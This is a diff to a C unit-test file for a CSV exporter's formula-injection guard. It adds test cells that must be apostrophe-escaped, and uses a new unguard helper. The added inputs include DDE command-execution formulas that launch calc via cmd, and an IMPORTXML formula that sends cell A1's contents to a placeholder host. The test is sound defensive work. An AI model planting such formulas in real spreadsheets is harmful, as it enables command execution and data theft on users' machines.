@@ -95,6 +95,33 @@ TEST(what_a_spreadsheet_would_run_gets_an_apostrophe)
 		{ "＠SUM", ",'＠SUM" },
 		{ "+1-2", ",'+1-2" },
 		{ "-1e5", ",'-1e5" },
+		{ "=", ",'=" },
+		{ "@", ",'@" },
+		{ "+", ",'+" },
+		{ "==1", ",'==1" },
+		{ "+-1", ",'+-1" },
+		{ "-+1", ",'-+1" },
+		{ "--1", ",'--1" },
+		{ "@@x", ",'@@x" },
+		{ "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60\")",
+			",\"'=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"__DdeLink_60\"\")\"" },
+		{ "-1+cmd|'/C calc'!A0", ",'-1+cmd|'/C calc'!A0" },
+		{ "=IMPORTXML(CONCAT(\"http://x?v=\",A1),\"//a\")",
+			",\"'=IMPORTXML(CONCAT(\"\"http://x?v=\"\",A1),\"\"//a\"\")\"" },
+		{ "=1;2", ",'=1;2" },
+		{ "\r\n=1", ",\"'\r\n=1\"" },
+		{ "\"\"=1", ",\"'\"\"\"\"=1\"" },
+		{ " \" =1", ",\"' \"\" =1\"" },
+		{ "\u00a0=1", ",'\u00a0=1" },
+		{ "\u3000＝1", ",'\u3000＝1" },
+		{ "\ufeff=1", ",'\ufeff=1" },
+		{ "＇=1", ",'＇=1" },
+		{ "＂＝1", ",'＂＝1" },
+		{ "+5%", ",'+5%" },
+		{ "-5 EUR", ",'-5 EUR" },
+		{ "+12 34", ",'+12 34" },
+		{ "@sarah", ",'@sarah" },
+		{ "＋81 90", ",'＋81 90" },
 	};
 	struct arena arena = ARENA_INIT;
 	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
@@ -124,18 +151,16 @@ TEST(raw_leaves_everything_as_it_is)
 	arena_release(&arena);
 }
 
-/* A reader takes one apostrophe off when what follows is a formula; that must undo the
- * guard. */
 TEST(the_guard_can_be_taken_off_without_doubt)
 {
 	static const char *const cells[] = { "=1", "'=1", "''=1", "'x", "'", "", "-5", "'-5",
-		"' =1", " =1", "\"=1", "'\"=1", "'+81 90-1234-5678", "＝1", "'＝1" };
+		"' =1", " =1", "\"=1", "'\"=1", "'+81 90-1234-5678", "＝1", "'＝1", "＇=1",
+		"\u3000=1", "'\u3000'=1", "\t", "'\t", "@", "'@", "it's" };
 	struct arena arena = ARENA_INIT;
 	for (size_t i = 0; i < sizeof(cells) / sizeof(*cells); i++) {
 		const char *written =
 			csv_is_formula(cells[i]) ? arena_format(&arena, "'%s", cells[i]) : cells[i];
-		bool is_guarded = *written == '\'' && csv_is_formula(written + 1);
-		CHECK_TEXT(is_guarded ? written + 1 : written, cells[i]);
+		CHECK_TEXT(csv_unguard(written), cells[i]);
 	}
 	arena_release(&arena);
 }
